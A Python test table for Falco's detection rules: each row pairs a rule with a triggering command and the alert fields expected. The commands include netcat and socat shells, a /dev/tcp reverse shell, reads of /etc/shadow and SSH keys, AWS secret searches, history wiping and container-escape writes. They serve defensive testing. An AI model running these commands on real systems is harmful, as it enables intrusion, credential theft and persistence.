"""The table: for each of Falco's official rules an action that it describes, and what its alert must say.

`where` is one of the stages of test_official_rules.py. The command is what is run there; STARTED stands for the first
process of the container itself. Every alert is also checked for what follows from the command: proc.name, proc.cmdline,
proc.pname, proc.exepath, container.id, user and terminal.
"""

import platform
import re
from dataclasses import dataclass, field

STARTED = None
like = re.compile
SERVER, CLIENT = "198.51.100.7", "198.51.100.8"
SERVER6, CLIENT6 = "2001:db8::7", "2001:db8::8"
API_SERVER, POOL, METADATA, NEIGHBOUR = "203.0.113.1", "203.0.113.9", "169.254.169.254", "10.20.30.40"
NAMES = ((API_SERVER, "kubernetes.default.svc.cluster.local"), (POOL, "xmr.crypto-pool.fr"))

# Two rules wait for their user to fill in a list or a macro; as they come they can match nothing.
CUSTOMIZED = """
- list: namespace_scope_network_only_subnet
  items: [shop]
  override: {items: replace}
- macro: allowed_containers
  condition: (container.image.repository = registry.example/shop/web)
  override: {condition: replace}
"""


@dataclass
class Action:
    rule: str
    where: str
    command: str
    fields: dict = field(default_factory=dict)


def opened(name, **more):
    return {"fd.name": name, "evt.type": "openat", **more}


def connection(target, port, source, call="connect", proto="tcp"):
    """What the socket fields say: the ports that the kernel chose are checked for being there."""
    v6 = ":" in target
    name = like(rf"^{re.escape(source)}:\d+->{re.escape(target)}:{port}$")
    return {"fd.name": name, "fd.rport": port, "fd.type": "ipv6" if v6 else "ipv4", "fd.l4proto": proto,
            "evt.type": call}


EXECUTED = {"evt.type": "execve"}

ACTIONS = [
    # --- stable
    Action("Directory traversal monitored file read", "plain", "{bin}/act in /tmp/deep/er {bin}/act read ../../../etc/shadow",
           opened("/etc/shadow", **{"fd.nameraw": "../../../etc/shadow"})),
    Action("Directory traversal monitored file read", "plain", "{bin}/act open-missing /tmp/../../root/.ssh/id_rsa_none",
           opened("/root/.ssh/id_rsa_none", **{"fd.nameraw": "/tmp/../../root/.ssh/id_rsa_none"})),
    Action("Read sensitive file trusted after startup", "late", "{bin}/nginx read-late 6 /etc/shadow", opened("/etc/shadow")),
    Action("Read sensitive file untrusted", "plain", "{bin}/act read /etc/shadow", opened("/etc/shadow")),
    Action("Read sensitive file untrusted", "plain", "{bin}/act read /etc/pam.d/login", opened("/etc/pam.d/login")),
    Action("Run shell untrusted", "plain", "{bin}/nginx spawn /bin/sh -c 'true untrusted'",
           {**EXECUTED, "proc.pexepath": "/opt/nginx", "proc.pcmdline": "nginx spawn /bin/sh -c true untrusted",
            "proc.aname[2]": "act"}),
    Action("System user interactive", "host", "{bin}/sshd spawn {bin}/act as 1 {bin}/act interactive",
           {**EXECUTED, "user.name": "daemon", "user.uid": 1}),
    Action("Contact K8S API Server From Container", "plain", f"{{bin}}/act connect {API_SERVER} 6443 {CLIENT}",
           connection(API_SERVER, 6443, CLIENT)),
    Action("Netcat Remote Code Execution in Container", "plain", "{bin}/nc 198.51.100.7 4444 -e /bin/sh", EXECUTED),
    Action("Netcat Remote Code Execution in Container", "plain", "{bin}/ncat --sh-exec id 198.51.100.7", EXECUTED),
    Action("Search Private Keys or Passwords", "plain", "/bin/find /root -name id_rsa", EXECUTED),
    Action("Search Private Keys or Passwords", "plain", "/bin/grep -r 'BEGIN RSA PRIVATE' /root/keys", EXECUTED),
    Action("Clear Log Activities", "plain", "{bin}/act truncate /var/log/auth.log", opened("/var/log/auth.log")),
    Action("Remove Bulk Data from Disk", "plain", "{bin}/shred -u nothing", EXECUTED),
    Action("Create Symlink Over Sensitive Files", "plain", "{bin}/act symlink /etc/shadow {dir}/sym",
           {"evt.arg.target": "/etc/shadow", "evt.arg.linkpath": "/tmp/sym", "evt.type": "symlinkat"}),
    Action("Create Hardlink Over Sensitive Files", "plain", "{bin}/act link /etc/sudoers {dir}/hard",
           {"evt.arg.oldpath": "/etc/sudoers", "evt.arg.newpath": "/tmp/hard", "evt.type": "linkat"}),
    Action("Packet socket created in container", "strong", "{bin}/act packet-socket", {"evt.type": "socket"}),
    Action("Redirect STDOUT/STDIN to Network Connection in Container", "plain",
           f"{{bin}}/act redirect {SERVER} 4445 {CLIENT}",
           {**connection(SERVER, 4445, CLIENT, "dup3"), "fd.sip": SERVER}),
    Action("Linux Kernel Module Injection Detected", "strong", "{bin}/act load-module",
           {"evt.type": "init_module", "evt.res": like(r"^E[A-Z]+$"), "proc.args": "load-module", "proc.pexepath": "/opt/act",
            "proc.aexepath[2]": like(r"/runc$")}),
    Action("Linux Kernel Module Injection Detected", "strong", "{bin}/act load-module-file /etc/hosts",
           {"evt.type": "finit_module", "evt.res": like(r"^E[A-Z]+$"), "proc.args": "load-module-file /etc/hosts"}),
    Action("Debugfs Launched in Privileged Container", "privileged", "{bin}/debugfs -w", EXECUTED),
    Action("Detect release_agent File Container Escapes", "strong", "{bin}/act write {dir}/release_agent",
           opened("/tmp/release_agent", **{"thread.cap_effective": like(r"\bCAP_SYS_ADMIN\b")})),
    Action("PTRACE attached to process", "plain", "{bin}/act ptrace-attach",
           {"evt.type": "ptrace", "proc.pcmdline": "act batch /lines"}),
    Action("PTRACE anti-debug attempt", "plain", "{bin}/act ptrace-traceme",
           {"evt.type": "ptrace", "proc.pname": "act", "proc.pcmdline": "act ptrace-traceme"}),
    Action("Find AWS Credentials", "plain", "/bin/grep -r aws_secret_access_key /root/keys",
           {**EXECUTED, "proc.cwd": "/", "proc.pcmdline": "act batch /lines", "group.gid": 0, "group.name": "root"}),
    Action("Find AWS Credentials", "plain", "/bin/find /root -path *.aws/credentials", EXECUTED),
    Action("Execution from /dev/shm", "plain", "/dev/shm/miner shared",
           {**EXECUTED, "evt.res": "SUCCESS", "proc.pcmdline": "act batch /lines", "proc.exepath": "/dev/shm/miner"}),
    Action("Execution from /dev/shm", "plain", "{bin}/act in /dev/shm ./miner relative",
           {**EXECUTED, "proc.exepath": "/dev/shm/miner", "proc.cmdline": "miner relative"}),
    Action("Drop and execute new binary in container", "layers", "{dir}/dropped fresh",
           {**EXECUTED, "proc.exe": "/tmp/dropped", "proc.exepath": "/tmp/dropped", "proc.sname": "act",
            "proc.exe_ino.ctime": int, "proc.exe_ino.mtime": int, "proc.exe_ino.ctime_duration_proc_start": int,
            "container.start_ts": int}),
    Action("Disallowed SSH Connection Non Standard Port", "plain", f"{{bin}}/ssh connect {SERVER} 443 {CLIENT}",
           connection(SERVER, 443, CLIENT)),
    Action("Disallowed SSH Connection Non Standard Port", "plain", f"{{bin}}/ssh connect-later {SERVER6} 8443 {CLIENT6}",
           connection(SERVER6, 8443, CLIENT6)),
    Action("Fileless execution via memfd_create", "plain", "{bin}/act exec-memfd ghost in-memory",
           {**EXECUTED, "evt.res": "SUCCESS", "proc.cmdline": like(r" in-memory$"), "proc.name": like(r"^(\d+|memfd:act)$"),
            "proc.exepath": like(r"^memfd:act"), "proc.sname": "act", "container.start_ts": int}),
    Action("Fileless execution via memfd_create", "plain", "{bin}/act exec-memfd-by-name ghost by-name",
           {**EXECUTED, "proc.cmdline": like(r"^\d+ by-name$"), "proc.name": like(r"^\d+$"), "proc.exepath": like(r"^memfd:act")}),
    Action("Terminal shell in container", "terminal", STARTED,
           {**EXECUTED, "proc.name": "sh", "proc.cmdline": "sh -c true terminal", "proc.pname": "runc",
            "proc.exepath": "/bin/busybox", "proc.tty": int}),

    # --- incubating
    Action("Modify Shell Configuration File", "plain", "{bin}/act write /root/.bashrc",
           opened("/root/.bashrc", **{"proc.pcmdline": "act batch /lines"})),
    Action("Modify Shell Configuration File", "plain", "{bin}/act write /etc/profile", opened("/etc/profile")),
    Action("Modify Shell Configuration File", "plain", "{bin}/act write /etc/zsh/zshrc-new", opened("/etc/zsh/zshrc-new")),
    Action("Schedule Cron Jobs", "plain", "{bin}/act write /etc/cron.d/job", opened("/etc/cron.d/job")),
    Action("Schedule Cron Jobs", "plain", "{bin}/crontab -e", EXECUTED),
    Action("Read ssh information", "plain", "{bin}/act read /root/.ssh/id_rsa", opened("/root/.ssh/id_rsa")),
    Action("Read ssh information", "plain", "{bin}/act read-directory /root/.ssh", opened("/root/.ssh")),
    Action("Read ssh information", "plain", "{bin}/act read /home/u/.ssh/config", opened("/home/u/.ssh/config")),
    Action("DB program spawned process", "plain", "{bin}/mysqld spawn {bin}/act of-a-database", EXECUTED),
    Action("Change thread namespace", "host", "{bin}/act setns", {"evt.type": "setns"}),
    Action("Change namespace privileges via unshare", "plain", "{bin}/act unshare",
           {"evt.type": "unshare", "evt.res": "EPERM"}),
    Action("Launch Privileged Container", "privileged", STARTED, EXECUTED),
    Action("Launch Excessively Capable Container", "strong", STARTED,
           {**EXECUTED, "thread.cap_permitted": like(r"\bCAP_SYS_MODULE\b")}),
    Action("System procs network activity", "plain", f"{{bin}}/cat connect {SERVER} 8081 {CLIENT}",
           connection(SERVER, 8081, CLIENT)),
    Action("System procs network activity", "plain", f"{{bin}}/tail accept {SERVER} 8082 {CLIENT}",
           {**connection(SERVER, 8082, CLIENT, "accept4"), "fd.rport": int, "fd.lport": 8082}),
    Action("Program run with disallowed http proxy env", "plain",
           "{bin}/act env HTTP_PROXY=http://10.0.0.1:3128 {bin}/curl -s proxied",
           {**EXECUTED, "proc.env": like(r"\bHTTP_PROXY=http://10\.0\.0\.1:3128\b")}),
    Action("Unexpected UDP Traffic", "plain", f"{{bin}}/act connect-datagram {SERVER} 7777 {CLIENT}",
           connection(SERVER, 7777, CLIENT, proto="udp")),
    Action("Non sudo setuid", "host", "{bin}/act as 1 {bin}/act setuid 0",
           {"evt.type": "setuid", "evt.arg.uid": "root", "user.name": "daemon", "user.uid": 1}),
    Action("User mgmt binaries", "host", "{bin}/useradd nobody-new",
           {**EXECUTED, "proc.aname[2]": like(r"."), "proc.aname[3]": like(r".")}),
    Action("Create files below dev", "plain", "{bin}/act write /dev/hidden-store", opened("/dev/hidden-store")),
    Action("Contact EC2 Instance Metadata Service From Container", "plain",
           f"{{bin}}/act connect {METADATA} 80 {CLIENT}", connection(METADATA, 80, CLIENT)),
    Action("Contact cloud metadata service from container", "plain",
           f"{{bin}}/act connect {METADATA} 8080 {CLIENT}", connection(METADATA, 8080, CLIENT)),
    Action("Launch Package Management Process in Container", "plain", "{bin}/apk add something", EXECUTED),
    Action("Launch Suspicious Network Tool in Container", "plain", "{bin}/nmap -sn 198.51.100.0/24", EXECUTED),
    Action("Launch Suspicious Network Tool on Host", "host", "{bin}/tcpdump -D", EXECUTED),
    Action("Delete or rename shell history", "plain", "{bin}/act unlink /root/.bash_history",
           {"evt.type": "unlinkat", "evt.arg.name": "/root/.bash_history"}),
    Action("Delete or rename shell history", "plain", "{bin}/act rename /root/.ash_history {dir}/gone",
           {"evt.type": "renameat2", "evt.arg.oldpath": "/root/.ash_history"}),
    Action("Delete or rename shell history", "plain", "{bin}/act truncate /root/.zsh_history", opened("/root/.zsh_history")),
    Action("Set Setuid or Setgid bit", "plain", "{bin}/act chmod 4755 {dir}/set-id",
           {"evt.type": "fchmodat", "evt.arg.filename": "/tmp/set-id", "evt.arg.mode": like(r"\bS_ISUID\b")}),
    Action("Launch Remote File Copy Tools in Container", "plain", "{bin}/rsync -a here there", EXECUTED),
    Action("Network Connection outside Local Subnet", "pod", f"{{bin}}/act connect {SERVER} 9000 {CLIENT}",
           {**connection(SERVER, 9000, CLIENT), "k8s.ns.name": "shop", "k8s.pod.name": "web-1"}),
    Action("Mount Launched in Privileged Container", "privileged", "/bin/mount --bind {dir} {dir}", EXECUTED),
    Action("Launch Ingress Remote File Copy Tools in Container", "plain", "{bin}/wget http://198.51.100.7/x", EXECUTED),
    Action("Launch Ingress Remote File Copy Tools in Container", "plain", "{bin}/curl -s -o x http://198.51.100.7/", EXECUTED),
    Action("Read environment variable from /proc files", "plain", "{bin}/act read /proc/1/environ", opened("/proc/1/environ")),
    Action("Exfiltrating Artifacts via Kubernetes Control Plane", "tar", STARTED,
           {"fd.name": "/srv/artifact", "evt.type": "openat", "proc.name": "tar", "proc.pname": "runc",
            "proc.cmdline": "tar read /srv/artifact", "proc.exepath": "/opt/tar"}),
    Action("Adding ssh keys to authorized_keys", "plain", "{bin}/act write /root/.ssh/authorized_keys",
           opened("/root/.ssh/authorized_keys")),
    Action("Potential Local Privilege Escalation via Environment Variables Misuse", "plain",
           "{bin}/act env GLIBC_TUNABLES=glibc.malloc.mxfast=1 {bin}/act tuned",
           {**EXECUTED, "proc.env": like(r"\bGLIBC_TUNABLES=glibc\.malloc\.mxfast=1\b")}),
    Action("Backdoored library loaded into SSHD (CVE-2024-3094)", "plain", "{bin}/sshd read /usr/lib/liblzma.so.5.6.1",
           opened("/usr/lib/liblzma.so.5.6.1")),
    Action("BPF Program Not Profiled", "host", "{bin}/act load-program", {"evt.type": "bpf", "evt.arg.cmd": "BPF_PROG_LOAD"}),

    # --- sandbox
    Action("Unexpected inbound connection source", "plain", f"{{bin}}/act accept {SERVER} 8083 {CLIENT}",
           {**connection(SERVER, 8083, CLIENT, "accept4"), "fd.rport": int, "fd.lport": 8083}),
    Action("Read Shell Configuration File", "plain", "{bin}/act read /root/.profile", opened("/root/.profile")),
    Action("Update Package Repository", "plain", "{bin}/act write /etc/apt/sources.list.d/own.list",
           opened("/etc/apt/sources.list.d/own.list")),
    Action("Update Package Repository", "plain", "{bin}/act rename {dir}/own.list /etc/apt/sources.list",
           {"evt.type": "renameat2", "evt.arg.newpath": "/etc/apt/sources.list"}),
    Action("Write below binary dir", "plain", "{bin}/act write /usr/bin/planted", opened("/usr/bin/planted")),
    Action("Write below monitored dir", "plain", "{bin}/act write /usr/local/bin/planted", opened("/usr/local/bin/planted")),
    Action("Write below etc", "plain", "{bin}/act write /etc/planted.conf", opened("/etc/planted.conf")),
    Action("Write below root", "plain", "{bin}/act write /root/planted", opened("/root/planted")),
    Action("Write below rpm database", "plain", "{bin}/act write /var/lib/rpm/Packages", opened("/var/lib/rpm/Packages")),
    Action("Modify binary dirs", "plain", "{bin}/act rename /usr/bin/old /usr/bin/older",
           {"evt.type": "renameat2", "evt.args": like(r"^res=0 olddirfd=-100\(AT_FDCWD\) oldpath=/usr/bin/old .* newpath=/usr/bin/older")}),
    Action("Mkdir binary dirs", "plain", "{bin}/act mkdir /usr/bin/folder", {"evt.type": "mkdirat", "evt.arg.path": "/usr/bin/folder"}),
    Action("Launch Sensitive Mount Container", "mounts", STARTED, {**EXECUTED, "container.mounts": like(r"/var/lib/kubelet")}),
    Action("Launch Disallowed Container", "plain", STARTED, EXECUTED),
    Action("Interpreted procs inbound network activity", "plain", f"{{bin}}/python3 accept {SERVER} 8084 {CLIENT}",
           {**connection(SERVER, 8084, CLIENT, "accept4"), "fd.rport": int, "fd.lport": 8084}),
    Action("Interpreted procs inbound network activity", "plain", f"{{bin}}/node receive-datagram {SERVER} 8085 {CLIENT}",
           {**connection(SERVER, 8085, CLIENT, "recvfrom", "udp"), "fd.rport": int, "fd.lport": 8085}),
    Action("Interpreted procs outbound network activity", "plain", f"{{bin}}/perl connect-later {SERVER} 8086 {CLIENT}",
           connection(SERVER, 8086, CLIENT)),
    Action("Interpreted procs outbound network activity", "plain", f"{{bin}}/ruby send-datagram {SERVER} 8087 {CLIENT}",
           connection(SERVER, 8087, CLIENT, "sendto", "udp")),
    Action("Unexpected K8s NodePort Connection", "plain", f"{{bin}}/act connect {NEIGHBOUR} 30080 {CLIENT}",
           connection(NEIGHBOUR, 30080, CLIENT)),
    Action("Create Hidden Files or Directories", "plain", "{bin}/act mkdir {dir}/.cache-dir", {"evt.type": "mkdirat"}),
    Action("Create Hidden Files or Directories", "plain", "{bin}/act write {dir}/.cache-file", opened("/tmp/.cache-file")),
    Action("Create Hidden Files or Directories", "plain", "{bin}/act rename {dir}/plain-file {dir}/.hidden-file",
           {"evt.type": "renameat2", "evt.arg.newpath": "/tmp/.hidden-file"}),
    Action("Detect outbound connections to common miner pool ports", "plain",
           f"{{bin}}/act connect {POOL} 443 {CLIENT}", {**connection(POOL, 443, CLIENT), "fd.rip": POOL}),
    Action("Detect crypto miners using the Stratum protocol", "plain", "{bin}/act -o stratum+tcp://198.51.100.7:3333", EXECUTED),
    Action("Kubernetes Client Tool Launched in Container", "plain", "{bin}/kubectl get pods", EXECUTED),
    Action("Container Drift Detected (chmod)", "plain", "{bin}/act chmod 755 {dir}/drift",
           {"evt.type": "fchmodat", "evt.arg.filename": "/tmp/drift", "evt.arg.mode": like(r"\bS_IXUSR\b")}),
    Action("Container Drift Detected (open+create)", "plain", "{bin}/act create {dir}/drift-new 755",
           {"evt.type": "openat", "evt.arg.name": "/tmp/drift-new", "evt.arg.mode": "0755"}),
    Action("Container Run as Root User", "plain", STARTED, EXECUTED),
    Action("Sudo Potential Privilege Escalation", "host", "{bin}/sudo -s 'AAAA\\'", EXECUTED),
    Action("Unprivileged Delegation of Page Faults Handling to a Userspace Process", "host",
           "{bin}/act as 1 {bin}/act userfaultfd", {"evt.type": "userfaultfd", "user.name": "daemon", "user.uid": 1}),
    Action("Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", "host", "{bin}/pkexec",
           {**EXECUTED, "proc.args": ""}),
    Action("Java Process Class File Download", "plain", f"{{bin}}/java receive-class {SERVER} 8088 {CLIENT}",
           {**connection(SERVER, 8088, CLIENT, "recvfrom"), "fd.sip": SERVER, "fd.sport": 8088}),
    Action("Modify Container Entrypoint", "plain", "{bin}/act write-own-descriptor {dir}/descriptor 77",
           opened("/proc/self/fd/77")),
    Action("Decoding Payload in Container", "plain", "{bin}/act base64 --decode payload", EXECUTED),
    Action("Basic Interactive Reconnaissance", "host terminal", STARTED,
           {**EXECUTED, "proc.name": "whoami", "proc.tty": int}),
    Action("Netcat/Socat Remote Code Execution on Host", "host", "{bin}/nc -l -e /bin/sh", EXECUTED),
    Action("Netcat/Socat Remote Code Execution on Host", "host", "{bin}/socat TCP-LISTEN:1 EXEC:/bin/sh", EXECUTED),
    Action("Network Tool Executed During NPM Package Install", "plain", "{bin}/npm spawn {bin}/socat - of-a-package", EXECUTED),
    Action("Known Cryptominer Process Executed", "plain", "{bin}/xmrig --config none", EXECUTED),
    Action("Web Server Spawned Shell", "plain", "{bin}/apache2 spawn /bin/sh -c 'true of-a-server'", EXECUTED),
    Action("Web Server Spawned Suspicious Child Process", "plain", "{bin}/php-fpm spawn {bin}/id of-a-server", EXECUTED),
    Action("Reverse Shell from Web Server", "plain",
           "{bin}/httpd spawn /bin/sh -c 'true > /dev/tcp/198.51.100.7/4444 || true reverse'", EXECUTED),
    Action("Privileged Container Device Access", "plain", "{bin}/act read /dev/sdz", opened("/dev/sdz")),
    Action("Container Access to Host Sensitive Paths", "plain", "{bin}/act read /host/etc/hostname", opened("/host/etc/hostname")),
]

# The calls that only x86 has.
if platform.machine() == "x86_64":
    ACTIONS += [
        Action("Read sensitive file untrusted", "plain", "{bin}/act old-read /etc/shadow", {"fd.name": "/etc/shadow", "evt.type": "open"}),
        Action("Create Symlink Over Sensitive Files", "plain", "{bin}/act old-symlink /root/ {dir}/old-sym",
               {"evt.arg.target": "/root/", "evt.arg.linkpath": "/tmp/old-sym", "evt.type": "symlink"}),
        Action("Create Hardlink Over Sensitive Files", "plain", "{bin}/act old-link /etc/sudoers {dir}/old-hard",
               {"evt.arg.oldpath": "/etc/sudoers", "evt.arg.newpath": "/tmp/old-hard", "evt.type": "link"}),
        Action("Redirect STDOUT/STDIN to Network Connection in Container", "plain",
               f"{{bin}}/act old-redirect {SERVER} 4446 {CLIENT}", connection(SERVER, 4446, CLIENT, "dup2")),
        Action("Delete or rename shell history", "plain", "{bin}/act old-unlink /home/u/.bash_history",
               {"evt.type": "unlink", "evt.arg.path": "/home/u/.bash_history"}),
        Action("Modify binary dirs", "plain", "{bin}/act old-rename /usr/bin/tool /usr/bin/tools",
               {"evt.type": "rename", "evt.args": "res=0 oldpath=/usr/bin/tool newpath=/usr/bin/tools"}),
        Action("Mkdir binary dirs", "plain", "{bin}/act old-mkdir /usr/sbin/folder",
               {"evt.type": "mkdir", "evt.arg.path": "/usr/sbin/folder"}),
        Action("Set Setuid or Setgid bit", "plain", "{bin}/act old-chmod 2755 {dir}/old-set-id",
               {"evt.type": "chmod", "evt.arg.filename": "/tmp/old-set-id", "evt.arg.mode": like(r"\bS_ISGID\b")}),
        Action("Container Drift Detected (open+create)", "plain", "{bin}/act old-create {dir}/old-drift 755",
               {"evt.type": "creat", "evt.arg.name": "/tmp/old-drift", "evt.arg.mode": "0755"}),
    ]

# What else an action is, by the text of other rules: the command line of the process (its beginning) -> rules. Nothing
# but the rule of its row and these may be raised in our containers, and on this host by our programs.
ALSO = {
    # `missing in (...)` is false, so this rule's "not in" holds for each mount that a container does not have.
    "act batch /lines": ["Launch Sensitive Mount Container", "Launch Disallowed Container", "Container Run as Root User",
                         "Launch Excessively Capable Container", "Launch Privileged Container"],
    "sh -c true terminal": ["Launch Sensitive Mount Container", "Launch Disallowed Container", "Container Run as Root User"],
    "tar read /srv/artifact": ["Launch Sensitive Mount Container", "Launch Disallowed Container", "Container Run as Root User"],
    "runc:[1:CHILD] init": ["Container Drift Detected (chmod)"],
    "whoami ": ["Basic Interactive Reconnaissance"],
    # To make ready what an action needs.
    "cp /opt/": ["Container Drift Detected (open+create)"],
    "cp /etc/hosts /dev/sdz": ["Create files below dev", "Privileged Container Device Access"],
    "act read ../../../etc/shadow": ["Read sensitive file untrusted"],
    "nginx read-late": ["Read sensitive file untrusted"],
    "nc 198": ["Launch Suspicious Network Tool in Container"],
    "ncat ": ["Launch Suspicious Network Tool in Container"],
    "find /root ": ["Read ssh information"],
    "act write /root/.bashrc": ["Create Hidden Files or Directories", "Write below root"],
    "act write /etc/": ["Write below etc"],
    "act truncate /root/.zsh_history": ["Create Hidden Files or Directories", "Write below root"],
    "act write /root/.ssh/authorized_keys": ["Create Hidden Files or Directories", "Write below monitored dir"],
    "act old-chmod 2755": ["Container Drift Detected (chmod)"],
    "act chmod 4755": ["Container Drift Detected (chmod)"],
    "act connect 169.254.169.254": ["Contact EC2 Instance Metadata Service From Container",
                                    "Contact cloud metadata service from container"],
    "perl ": ["Interpreted procs inbound network activity"],
    "python3 accept": ["Interpreted procs outbound network activity"],
    "node receive-datagram": ["Interpreted procs outbound network activity"],
    "npm spawn": ["Launch Package Management Process in Container"],
    "socat - ": ["Launch Suspicious Network Tool in Container"],
    "sh -c true untrusted": ["Web Server Spawned Shell"],
    "sh -c true of-a-server": ["Run shell untrusted"],
    "sh -c true > /dev/tcp": ["Run shell untrusted", "Web Server Spawned Shell"],
    "nc -l": ["Launch Suspicious Network Tool on Host"],
    "socat TCP": ["Launch Suspicious Network Tool on Host"],
    "zmap ": ["Launch Suspicious Network Tool on Host"],
}
# Whoever listens is "inbound" by Falco's macro, and has no client yet that could be an allowed one.
LISTENING = ("connect ", "connect-later", "accept", "redirect", "old-redirect", "receive-")
INBOUND = "Unexpected inbound connection source"

# Rules that an action of ours should raise and does not yet: rule -> why. A rule that has begun to work fails the test
# until it is taken out of here.
KNOWN_GAPS = {
}

# Fields that are still missing from an alert: (rule, field) -> why; kept as honest as KNOWN_GAPS.
KNOWN_FIELD_GAPS = {
}
